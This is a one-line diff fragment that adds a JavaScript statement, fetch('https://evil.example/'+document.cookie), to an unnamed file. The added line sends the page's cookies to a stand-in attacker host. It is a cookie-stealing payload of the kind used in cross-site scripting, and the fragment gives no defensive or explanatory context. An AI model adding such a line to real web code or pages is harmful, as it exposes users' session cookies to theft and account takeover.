@@ -1,0 +1,1 @@
+fetch("https://evil.example/"+document.cookie)
